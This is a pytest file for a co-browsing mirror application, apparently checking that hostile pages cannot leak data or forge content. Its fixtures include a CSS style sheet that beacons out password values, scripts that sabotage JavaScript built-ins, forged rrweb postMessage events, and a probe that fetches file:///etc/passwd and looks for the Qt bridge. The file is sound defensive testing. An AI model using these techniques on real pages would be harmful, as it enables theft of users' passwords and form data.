# SPDX-License-Identifier: GPL-3.0-only
"""Pages with tricks: style sheets that spy, bent clocks, frames that forge, probes for the bridge,
pages that leave.
"""

from __future__ import annotations

import asyncio
import re
import time

import pytest

from resources import resource_path, resource_text
from resources.own_names import NAMES
from session.protocol.conversation.messages import Grant
from tests.support.cobrowse_stage import POLICY, Stage, script
from tests.support.qt_loop import QtLoop

SPY = """<html><head><style>
input[value^="S"]{background:url(BEACONs)} input[value^="7"]{background:url(BEACON7)}
input[value*="same"]{background:url(BEACONsame)}
@font-face{font-family:spy;src:url(BEACONfont);unicode-range:U+0041} #f{font-family:spy}
#f:checked{background:url(BEACONchecked)}
</style></head><body><h1>espion</h1><input id=p type=password
value="Sesame-77"><input id=n name=iban value="77">
<p id=f>B</p><p id=fin>fin</p></body></html>"""


def test_the_mirror_runs_under_these_rules_and_no_others(stage: Stage, qt_loop: QtLoop) -> None:
    async def story() -> None:
        await stage.share(stage.web.site + "index.html")
        await stage.mirrored("document.querySelector('h1') !== null")
        page = stage.pane.engine.page
        policies = await script(
            page,
            "JSON.stringify([...document.querySelectorAll('meta[http-equiv]')].map((m) => "
            "[m.httpEquiv, m.content]))",
        )
        assert (
            re.sub(r"'nonce-[\w-]{16,}'", "'nonce-NONCE'", policies)
            == f'[["Content-Security-Policy","{POLICY}"]]'
        )
        frames = (
            "JSON.stringify([...document.querySelectorAll('iframe')]"
            ".map((f) => f.getAttribute('sandbox')))"
        )
        assert await script(page, frames) == '["allow-same-origin"]'
        attributes = await script(
            page, "[...document.querySelector('iframe').attributes].map((a) => a.name).join()"
        )
        assert not set(attributes.split(",")) & {"src", "srcdoc", "allow", "allowfullscreen"}

    qt_loop.run(stage.play(story()))


def test_a_style_sheet_that_spies_on_fields_learns_nothing_at_the_desk(
    stage: Stage, qt_loop: QtLoop
) -> None:
    beacon = stage.web.address + "/beacon-"

    async def story() -> None:
        await stage.open(stage.web.page("/t/espion.html", SPY.replace("BEACON", beacon)))
        await asyncio.sleep(0.3)
        stage.web.asked.clear()
        stage.consent.give(Grant.SEE_PAGE)
        await stage.mirrored("document.getElementById('fin') !== null")
        await asyncio.sleep(0.8)
        assert stage.pane.engine.blocked_requests == 0
        # The spying rules find nothing to match in the mirror: the values are masks there.
        drawn = "getComputedStyle(document.getElementById('p')).backgroundImage"
        assert await stage.in_mirror(drawn) == "none"
        assert not [
            path for path in stage.web.asked if path in ("/beacon-s", "/beacon-7", "/beacon-same")
        ]
        assert "Sesame" not in stage.raw

    qt_loop.run(stage.play(story()))


def test_a_page_that_bends_its_clocks_and_its_tools_is_mirrored_all_the_same(
    stage: Stage, qt_loop: QtLoop
) -> None:
    bent = """<html><body><h1>droit</h1><script>
    const real = setTimeout;
    Date.now = () => 0; Date = function () { return { getTime: () => NaN } };
      performance.now = () => -1e15;
    JSON.stringify = () => '{}'; Array.prototype.push = () => 0; Array.from = () => [];
    Node.prototype.appendChild = Map.prototype.get = WeakMap.prototype.get = () => null;
    MutationObserver = function () { this.observe = () => {} };
      window.setTimeout = window.setInterval = () => 0;
    window.requestAnimationFrame = () => 0;
      Element.prototype.matches = Element.prototype.closest = () => null;
    String.prototype.replace = function () { return 'x' }; crypto.getRandomValues = (a) => a;
    real(() => { document.querySelector('h1').textContent = 'bent'; }, 1500);
    </script><input id=p type=password value="Sesame-77"></body></html>"""

    async def story() -> None:
        await stage.share(stage.web.page("/t/tordu.html", bent))
        await stage.mirrored("document.querySelector('h1')?.textContent === 'bent'")
        assert "Sesame" not in stage.raw

    qt_loop.run(stage.play(story()))


def test_a_listed_frame_cannot_forge_for_the_page_around_it(stage: Stage, qt_loop: QtLoop) -> None:
    forging = """<body><h1>dedans</h1><script>
    window.heard = []; addEventListener('message', (e) => heard.push(JSON.stringify(e.data)));
    const node = {type: 2, tagName: 'h1', attributes: {},
      childNodes: [{type: 3, textContent: 'FORGED', id: 9}], id: 8};
    const add = {source: 0, adds: [{parentId: 1, nextId: null, node}], texts: [],
      removes: [], attributes: []};
    setInterval(() => { for (const k of [undefined, '', 'token', '0', null, {}, []])
      for (const type of [2, 3, 4]) {
      const event = {type, k, timestamp: 1,
        data: type === 3 ? add : {node, href: 'FORGED', initialOffset: {}}};
      parent.postMessage({type: 'rrweb', event, origin: location.origin, isCheckout: false}, '*');
    } }, 50);</script></body>"""
    around = """<body><h1>autour</h1><iframe id=f src="INSIDE"></iframe></body>"""

    async def story() -> None:
        inside = stage.web.page("/t/forge.html", forging).replace("127.0.0.1", "localhost")
        address = stage.web.page("/t/autour.html", around.replace("INSIDE", inside))
        stage.browser.set_allowed([stage.web.address + "/t/", inside.rpartition("/")[0] + "/"])
        await stage.share(address)
        await stage.mirrored(
            "document.getElementById('f')?.contentDocument?.querySelector('h1')?.textContent === "
            "'dedans'"
        )
        await asyncio.sleep(1.0)
        assert "FORGED" not in stage.raw

    qt_loop.run(stage.play(story()))


def test_a_page_that_probes_for_the_bridge_finds_none(stage: Stage, qt_loop: QtLoop) -> None:
    probe = """<html><body><h1>sonde</h1><script src="qrc:///qtwebchannel/qwebchannel.js"></script><script>
    window.found = [];
    const look = (where, name) => { try {
      for (const key of ['qt', 'QWebChannel', 'posteRecorder',
        'posteFrames', 'rrweb', 'hands', 'bridge'])
        if (where[key] !== undefined) found.push(name + '.' + key);
    } catch (error) {} };
    look(window, 'window'); look(document, 'document'); look(navigator, 'navigator');
    const frame = document.createElement('iframe');
      document.body.append(frame); look(frame.contentWindow, 'frame');
    for (const address of ['qrc:///qtwebchannel/qwebchannel.js', 'cbshell://mirror/',
      'cbres://r/aaaa', 'file:///etc/passwd'])
      fetch(address).then(() => found.push('fetched ' + address), () => 0);
    window.qt = {webChannelTransport: {send: (t) => found.push('sent ' + t), onmessage: null}};
    postMessage({type: 'rrweb', event: {type: 4}}, '*');
    </script></body></html>"""

    async def story() -> None:
        await stage.share(stage.web.page("/t/sonde.html", probe))
        await stage.mirrored("document.querySelector('h1')?.textContent === 'sonde'")
        stage.desk.request_snapshot()
        await asyncio.sleep(0.8)
        assert await stage.in_page("found.join(' | ')") == ""

    qt_loop.run(stage.play(story()))


def test_a_page_that_leaves_by_refresh_is_stopped_where_the_list_ends(
    stage: Stage, qt_loop: QtLoop
) -> None:
    async def story() -> None:
        away = stage.web.address + "/ailleurs.html"
        leaving = (
            f'<html><head><meta http-equiv=refresh content="2;url={away}"></head>'
            "<body><h1>reste</h1></body></html>"
        )
        await stage.share(stage.web.page("/t/part.html", leaving))
        await stage.until(lambda: stage.refused)
        assert stage.refused[-1].code == "address_not_allowed"
        assert "/ailleurs.html" not in stage.web.asked
        assert await stage.in_page("location.pathname") == "/t/part.html"

    qt_loop.run(stage.play(story()))


def test_a_page_that_loads_itself_again_and_again_leaves_the_line_its_measure(
    stage: Stage, qt_loop: QtLoop
) -> None:
    turning = (
        "<html><head><meta http-equiv=refresh content=0></head><body><h1>tourne</h1>"
        + "<p>mot</p>" * 800
    )

    async def story() -> None:
        await stage.share(stage.web.page("/t/tourne.html", turning))
        before, began_s = stage.wire_bytes, time.monotonic()
        await asyncio.sleep(3)
        used, took_s = stage.wire_bytes - before, time.monotonic() - began_s
        assert used <= 240 * 125 * (took_s + 1)
        await stage.open(stage.web.site + "index.html")
        await stage.mirrored("document.title !== ''")
        await stage.mirrored("document.querySelector('h1')?.textContent !== 'tourne'")

    qt_loop.run(stage.play(story()))


def test_no_name_of_a_field_or_a_picture_hides_the_page(stage: Stage, qt_loop: QtLoop) -> None:
    fields = "".join(f"<form><input name={name} value=x></form>" for name in NAMES)
    pictures = "".join(f"<img name={name}><object id={name}></object>" for name in NAMES)
    ours = "<a id=posteRecorder></a><a id=rrweb></a><iframe name=posteOwn></iframe>"

    async def story() -> None:
        stage.consent.give(Grant.SEE_PAGE)
        for number, named in enumerate((fields, pictures, ours)):
            html = f"<html><body>{named}<p id=fin>fin {number}</p></body></html>"
            await stage.open(stage.web.page(f"/t/noms{number}.html", html))
            await stage.mirrored(
                "Array.from(Document.prototype.querySelectorAll.call(document, '#fin'))"
                f".some((last) => last.textContent === 'fin {number}')"
            )

    qt_loop.run(stage.play(story()), 120)


OF_OTHERS = """
URL after all append before blur clear close constructor focus fonts id length location method
name normalize onload open plugins prepend rel remove reset scroll scrollBy target write
"""
"""What our scripts read under these names are lists, words and other things that are neither a form
nor a document.
"""


def test_every_name_that_a_field_could_take_is_read_as_the_engine_s(
    stage: Stage, qt_loop: QtLoop
) -> None:
    scripts = [
        file.read_text("utf-8")
        for file in resource_path("pages/record.js").parent.glob("*.js")
        if file.name.startswith(("record", "mirror", "pick", "page_parts"))
    ]
    read = set(
        re.findall(
            r"(?<=[\w$)\]?])\.([A-Za-z]\w*)",
            "".join(scripts) + resource_text("vendor/rrweb.umd.min.js"),
        )
    )

    async def story() -> None:
        await stage.open(stage.web.page("/t/leer.html", "<html><body><form></form></body></html>"))
        names = await stage.in_page("""(() => {
            const names = new Set();
            for (let at of [document.forms[0], document])
                for (; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
                    for (const name of Object.getOwnPropertyNames(at)) names.add(name);
            return [...names].join();
        })()""")
        theirs = {name for name in names.split(",") if not name.isupper()}
        assert read & theirs - set(OF_OTHERS.split()) <= set(NAMES)

    qt_loop.run(stage.play(story()))


@pytest.mark.parametrize(
    "fault",
    [
        "rrweb.record.takeFullSnapshot = () => { throw new Error() }",
        "Object.keys = () => { throw new Error() }",
    ],
)
def test_a_page_that_cannot_be_shown_is_told_at_both_ends(
    stage: Stage, qt_loop: QtLoop, fault: str
) -> None:
    """The recorder itself fails, whatever a page has found to make it."""

    async def story() -> None:
        told: list[str] = []
        stage.kiosk.not_shared.connect(told.append)
        await stage.open(stage.web.page("/t/lune.html", "<html><body><p>Lune</p></body></html>"))
        stage.consent.give(Grant.SEE_PAGE)
        await stage.mirrored("document.body !== null")
        await stage.in_recorder(f"{fault}, posteRecorder.snapshot()")
        await stage.until(lambda: told and stage.refused)
        assert told == ["page_not_shareable"] == [refused.code for refused in stage.refused]
        await stage.open(stage.web.page("/t/mars.html", "<html><body><p>Mars</p></body></html>"))
        await stage.mirrored("document.querySelector('p')?.textContent === 'Mars'")
        assert told[1:] == [""]

    qt_loop.run(stage.play(story()))
